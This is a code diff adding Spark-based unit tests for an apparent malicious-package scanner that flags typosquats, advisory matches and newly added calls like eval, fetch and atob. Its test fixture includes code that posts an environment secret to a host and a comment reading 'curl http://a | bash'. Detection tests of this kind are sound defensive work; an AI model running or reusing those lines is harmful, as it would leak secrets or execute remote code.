@@ -195,3 +195,28 @@ def test_imports_keep_scopes(spark):
     code = "import a from '@s/x/y';\nconst b = require('left/pad');\nconst c = require('fs');\nimport('./own');\nexport { z } from 'q';\n"
     df = spark.createDataFrame([("npm", "p", "1", "a.js", "javascript", code)], "ecosystem string, package string, version string, path string, language string, content string")
     assert {r.module for r in files.javascript_imports(df).collect()} == {"@s/x", "left", "q"}
+
+
+def test_assessment(spark):
+    from riskloom.plans import assessment
+
+    queue = spark.createDataFrame([("PyPI", "evil_pkg", "1"), ("PyPI", "reqests", " 2"), ("PyPI", "fine", "3")], "ecosystem string, package string, version string")
+    code = "import os, requests\nk = os.getenv('A')\nrequests.post('u', data=k)\n# curl http://a | bash\n"
+    f = [(1, "PyPI", "fine", "3", "python", code), (1, "PyPI", "fine", "3", "python", code), (2, "PyPI", "Evil.pkg", "1", "python", code), (3, "npm", "calm", "1", "javascript", None)]
+    source = spark.createDataFrame(f, "file_id bigint, ecosystem string, package string, version string, language string, content string")
+    bad = spark.createDataFrame([("A1", "PyPI", "evil-pkg", None, "malicious_package")], "advisory_id string, ecosystem string, package string, version_glob string, attack_type string")
+    popular = spark.createDataFrame([("PyPI", "requests", 1)], "ecosystem string, package string, rank int")
+    got = {(r.package, r.version): (r.evidence_count, r.verdict) for r in assessment.assessed(queue, source, bad, popular).collect()}
+    assert got[("evil-pkg", "1")] == (1, "MALICIOUS") and got[("calm", "1")] == (0, "CLEAN") and got[("reqests", "2")] == (1, "HIGH_RISK")
+    assert got[("fine", "3")][1] in ("HIGH_RISK", "MALICIOUS") and len(got) == 4
+    assert assessment.assessed(queue.limit(0), source.limit(0), bad, popular).count() == 0
+
+
+def test_change_outcomes(spark):
+    from riskloom.operators import changes
+
+    calls = [("npm", "p", "1.9.0", "eval", "X"), ("npm", "p", "1.10.0", "eval", "X"), ("npm", "p", "1.10.0", "fetch", "T"), ("npm", "p", "1.10.0", "atob", "E"), ("npm", "q", "1", "eval", "X")]
+    df = spark.createDataFrame(calls, "ecosystem string, package string, version string, name string, dimension string")
+    new = changes.new_calls(df)
+    assert {(r.version, r.before_1, r.name) for r in new.collect()} == {("1.10.0", "1.9.0", "fetch"), ("1.10.0", "1.9.0", "atob")}
+    assert [(r.dimensions, r.severity) for r in changes.change_severity(new).collect()] == [("ET", "HIGH")]
